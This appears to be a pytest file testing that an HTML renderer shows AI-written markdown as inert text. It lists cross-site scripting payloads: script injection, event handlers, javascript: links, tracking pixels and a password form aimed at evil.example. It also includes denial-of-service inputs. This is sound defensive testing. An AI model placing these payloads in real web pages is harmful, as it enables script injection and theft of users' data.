"""What a model wrote is shown as words: nothing in it runs, loads or leads anywhere."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plaudit.web.rendering import ATTRIBUTES, LONGEST, TAGS, guidelines_to_html, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='//evil.example'></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](https://evil.example/steal)",
    "![pixel](https://evil.example/pixel.gif)",
    "![pixel](data:image/svg+xml,<svg onload=alert(1)>)",
    "<https://evil.example>",
    '[a]: https://evil.example "title"\n\n[a]',
    "![x][a]\n\n[a]: https://evil.example/pixel.gif",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\n1\n```',
    "`<script>`",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<!-- comment --><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "| a | b |\n| :- | -: |\n| <b onclick=x>1</b> | [2](javascript:2) |",
]


class Read(HTMLParser):
    """Every tag and attribute in some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.values: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.values |= {value or "" for _, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    read = Read(html)
    assert read.tags <= TAGS
    assert read.attributes <= {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
    assert all(re.fullmatch(r"\d+", value) for value in read.values)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text(text: str) -> None:
    assert_harmless(to_html(text, "ann"))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n> ", "* ", "# ", "~~", "|", "<", "&", "[", "]", "(", ")", "é"]),
        max_size=8,
    )
)
def test_hostile_text_in_any_mixture_is_only_text(parts: list[str]) -> None:
    assert_harmless(to_html("".join(parts), "ann"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](https://evil.example/steal)", "click (https://evil.example/steal)"),
        ("![a cat](https://evil.example/p.gif)", "[a cat](https://evil.example/p.gif)"),
        ("<https://evil.example>", "https://evil.example"),
        ("[a]: https://evil.example", "[a]: https://evil.example"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ],
)
def test_what_would_lead_elsewhere_is_there_to_be_judged(text: str, shown: str) -> None:
    assert shown in Read(to_html(text, "ann")).text


def test_plain_markdown_is_rendered() -> None:
    html = to_html(
        "# Title\n\n1. *one*\n2. **two**\n\n> said\n\n```python\nx = 1 < 2\n```\n\n| a |\n| - |\n| b |\n\nline\nline",
        "ann",
    )
    for part in ("<h3>Title</h3>", "<ol>", "<em>one</em>", "<strong>two</strong>", "<blockquote>", "<table>"):
        assert part in html
    assert "<pre><code>x = 1 &lt; 2\n</code></pre>" in html
    assert "line<br>\nline" in html


def test_guidelines_may_link_to_the_web_and_run_nothing() -> None:
    html = guidelines_to_html(
        "[rules](https://example.org) [bad](javascript:alert(1)) <script>x</script> ![i](http://x/y.png)"
    )
    read = Read(html)
    assert read.tags <= TAGS | {"a"}
    assert read.values == {"https://example.org", "noopener noreferrer"}


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "> " * 20_000 + "x", "*a " * 30_000, "`" * 39_000, "![" * 19_000, "- " * 19_000 + "x", "<" * 39_000],
    ids=lambda text: f"{text[:4]!r}*{len(text)}",
)
def test_text_that_is_hard_to_read_is_read_in_no_time(text: str) -> None:
    began = time.process_time()
    assert_harmless(to_html(text, "ann"))
    assert time.process_time() - began < 2


def test_very_long_text_is_shown_as_it_is() -> None:
    assert to_html("<b>" * LONGEST, "ann") == "<pre>" + "&lt;b&gt;" * LONGEST + "</pre>"
